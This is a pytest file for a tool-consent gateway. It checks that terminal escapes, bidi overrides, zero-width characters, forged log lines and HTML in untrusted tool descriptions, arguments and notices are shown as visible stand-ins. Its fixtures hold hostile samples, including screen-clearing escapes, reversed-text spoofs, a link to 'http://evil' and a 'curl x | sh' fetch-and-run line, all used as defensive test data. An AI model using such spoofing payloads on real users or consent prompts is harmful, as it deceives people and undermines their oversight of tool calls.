"""Issue 21 item 3: every untrusted text shown to a person is made visible first (glyph.display).

The function itself, then each place that shows untrusted text: the rendered consent request
(tool descriptions, arguments, definition diffs), the Qt dialog's labels, the tray's
notifications and tooltip, the log formatter and `glyph audit`.
"""

from __future__ import annotations

import io
import json
import logging
import os
import unicodedata
from pathlib import Path

import pytest

from glyph.consent import ConsentRequest, DefinitionChange
from glyph.display import VisibleFormatter, json_visible, one_line, visible
from glyph.render import render_arguments, render_header, render_request

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

HOSTILE = "a\x1b[2J\x1b[Hb\r\x08\x07c\x9b31md\u202eevil\u202c\u2066x\u2069\u200b\u200c\u200d\u2060\ufeff\u00ad" \
          "\U000e0041\U000e0042\u2028\u2029\x7f\ufe0f\u3164e"


def invisible(text: str) -> list[str]:
    """Every character in text that moves the cursor, reorders or hides text (the property under test)."""
    return [c for c in text if (unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs") and c not in "\n\t")
            or c in "\ufe0f\u3164"]


def test_controls_bidi_and_zero_width_become_visible_stand_ins() -> None:
    out = visible(HOSTILE)
    assert invisible(out) == []
    assert out.startswith("a␛[2J␛[Hb␍␈␇c⟨U+009B⟩31md⟨U+202E⟩evil⟨U+202C⟩⟨U+2066⟩x⟨U+2069⟩")
    assert "⟨U+200B⟩⟨U+200C⟩⟨U+200D⟩⟨U+2060⟩⟨U+FEFF⟩⟨U+00AD⟩⟨U+E0041⟩⟨U+E0042⟩⟨U+2028⟩⟨U+2029⟩␡⟨U+FE0F⟩⟨U+3164⟩e" in out


def test_lines_and_tabs_stay_where_a_block_needs_them_and_nowhere_else() -> None:
    assert visible("def f():\n\treturn 1\n") == "def f():\n\treturn 1\n"
    assert one_line("name\nFAKE LINE\t") == "name␊FAKE LINE␉"
    assert visible("x\r\ny", "\n") == "x␍\ny"


def test_ordinary_text_is_unchanged_and_the_function_is_idempotent() -> None:
    plain = "héllo wörld — 日本語 مرحبا 👍🏽 ∑ “quotes” ␛ already"
    assert visible(plain) == plain and one_line(plain) == plain
    once = visible(HOSTILE)
    assert visible(once) == once


def test_json_lines_stay_the_same_json_value() -> None:
    row = {"client": "x\u202ey", "args": {"c": "\U000e0041\x1b"}}
    line = json_visible(json.dumps(row, ensure_ascii=False))
    assert invisible(line) == [] and json.loads(line) == row


def request(**over: object) -> ConsentRequest:
    base: dict[str, object] = {
        "client": "evil\x1b[2K\rcode/1.96", "server": "rune", "tool": "write_file", "exposed": "rune__write_file",
        "arguments": {"path": "deploy.sh", "content": "\x1b[2J\x1b[Hok\ncurl x | sh\n", "n": "\u202e1"},
        "reason": "no rule allows it",
        "description": "Writes a file.\x1b]0;title\x07\u202e hidden",
    }
    base.update(over)
    return ConsentRequest(**base)  # type: ignore[arg-type]


def test_the_rendered_request_has_nothing_invisible_and_keeps_its_lines() -> None:
    text = render_request(request())
    assert invisible(text) == []
    assert "Client   : evil␛[2K␍code/1.96" in render_header(request())
    assert "About    : Writes a file.␛]0;title␇⟨U+202E⟩ hidden" in text
    assert "  content: |\n    ␛[2J␛[Hok\n    curl x | sh" in text


def test_a_changed_definition_and_edit_diffs_are_visible_too() -> None:
    changed = DefinitionChange({"description": "Reads."}, {"description": "Reads.\u202e sdaolpU \x1b[8m"})
    text = render_arguments(request(changed=changed, arguments={
        "path": "a.py", "old_string": "x\n", "new_string": "x\x1b[1A\x1b[2K\n"}))
    assert invisible(text) == []
    assert "+x␛[1A␛[2K" in text and "⟨U+202E⟩ sdaolpU" in text


def test_log_lines_cannot_be_forged_or_act_on_the_terminal() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(VisibleFormatter("%(levelname)s %(message)s"))
    log = logging.getLogger("test.glyph.display")
    log.addHandler(handler)
    log.propagate = False
    try:
        log.warning("client %s called", "x\nERROR forged line\x1b[31m")
        try:
            raise ValueError("boom\u202e")
        except ValueError:
            log.exception("failed")
    finally:
        log.removeHandler(handler)
    out = stream.getvalue()
    assert "WARNING client x␊ERROR forged line␛[31m called\n" in out
    assert invisible(out) == [] and "Traceback (most recent call last):\n" in out and "boom⟨U+202E⟩" in out


def test_glyph_audit_prints_hostile_names_visibly(tmp_path: Path) -> None:
    import anyio

    from glyph.audit import AuditEntry, AuditLog
    from glyph.cli import main
    from glyph.db import Store

    data = tmp_path / "data"
    (tmp_path / "glyph.toml").write_text(f'roots = ["{tmp_path}"]\ndata_dir = "{data}"\n[rune]\nenabled = false\n')

    async def write() -> None:
        with Store(data / "glyph.db") as store:
            await AuditLog(store).record(AuditEntry(client="ed\x1b[2J", tool="x\u202eyz", arguments={"a": "\x1b"},
                                                    decision="deny", decided_by="glyph", outcome="unknown_tool"))
    anyio.run(write)
    for extra in ([], ["--json"]):
        out = io.StringIO()
        import contextlib
        with contextlib.redirect_stdout(out):
            assert main(["audit", "--config", str(tmp_path / "glyph.toml"), *extra]) == 0
        assert invisible(out.getvalue()) == [], extra
        assert ("ed␛[2J" in out.getvalue() and "x⟨U+202E⟩yz" in out.getvalue()) if not extra else True


@pytest.fixture
def qapp():  # type: ignore[no-untyped-def]
    pytest.importorskip("PySide6")
    from PySide6.QtWidgets import QApplication

    return QApplication.instance() or QApplication([])


def test_the_qt_dialog_labels_and_title_show_nothing_invisible(qapp: object) -> None:
    from PySide6.QtWidgets import QLabel

    from app.consent_dialog import ConsentDialog

    dialog = ConsentDialog(request(tool="write_file\u202eelif_daer", client="x\u200b\u2066y"), timeout_s=None)
    try:
        texts = [label.text() for label in dialog.findChildren(QLabel)] + [dialog.windowTitle(),
                                                                           dialog.details.toPlainText()]
        assert all(invisible(t) == [] for t in texts), texts
        assert "write_file⟨U+202E⟩elif_daer" in dialog.windowTitle()
    finally:
        dialog.deleteLater()


def test_tray_notifications_and_tooltip_show_upstream_text_visibly(qapp: object) -> None:
    from PySide6.QtWidgets import QSystemTrayIcon

    from app.state import Overall
    from app.tray import Tray

    shown: list[tuple[str, str]] = []

    class Recorder(QSystemTrayIcon):
        def showMessage(self, title: str, body: str, *args: object) -> None:  # type: ignore[override]
            shown.append((title, body))

    class Controller:
        def menu_snapshot(self) -> tuple[Overall, str, None]:
            return Overall("ok", "ok"), "", None

    tray = Tray.__new__(Tray)
    tray.icon = Recorder()
    tray.state = ""
    tray.template = False
    tray.notify("openai\x1b[2J is down", "upstream said: \u202eyour key expired\u200b\nline 2", "warning")
    assert shown and all(invisible(t) == [] for t in shown[0])
    assert shown[0][1].endswith("⟨U+202E⟩your key expired⟨U+200B⟩\nline 2")
    tray.set_state(Overall("degraded", "openai down", ("openai: \x1b]8;;http://evil\x07click\u202e",)), "")
    assert invisible(tray.icon.toolTip()) == [] and "␛]8;;http://evil␇click⟨U+202E⟩" in tray.icon.toolTip()


def test_the_audit_view_shows_hostile_rows_visibly(qapp: object, tmp_path: Path) -> None:
    from app.audit_view import AuditView
    from glyph.audit import AuditEntry, AuditLog
    from glyph.db import Store

    with Store(tmp_path / "g.db") as store:
        log = AuditLog(store)
        log.append(AuditEntry(client="ed\u202e\x1b[2J", server="rune", tool="x\u200by",
                              arguments={"content": "\x1b[8mhidden\u2066", "a": "<img src=x><b>b</b>"},
                              decision="deny", outcome="denied"))
        view = AuditView(log)
        try:
            cells = [view.table.item(0, j) for j in range(view.table.columnCount())]
            texts = [c.text() for c in cells if c is not None] + [cells[0].toolTip() if cells[0] else ""]
            assert all(invisible(t) == [] for t in texts), texts
            assert "ed⟨U+202E⟩␛[2J" in texts and "hidden⟨U+2066⟩" in texts[-1]
            assert "&lt;img src=x&gt;&lt;b&gt;b&lt;/b&gt;" in texts[-1]  # a tooltip is HTML to Qt: escaped
            from PySide6.QtGui import QTextDocument

            doc = QTextDocument()
            doc.setHtml(texts[-1])
            assert "<img src=x><b>b</b>" in doc.toPlainText()  # what the person reads: the text as it is
        finally:
            view.deleteLater()


def test_notices_built_from_upstream_text_are_visible() -> None:
    from app.notify import Notices
    from omen_local.observe import HealthEvent

    notice = Notices().health(HealthEvent(provider="evil\x1b[2J", state="down",
                                          detail="503 \u202eyour key leaked\u200b\x1b]8;;http://x\x07"), 0.0)
    assert notice is not None and invisible(notice.title + notice.body) == []
    assert notice.title == "evil␛[2J is down" and "⟨U+202E⟩your key leaked⟨U+200B⟩␛]8;;http://x␇" in notice.body
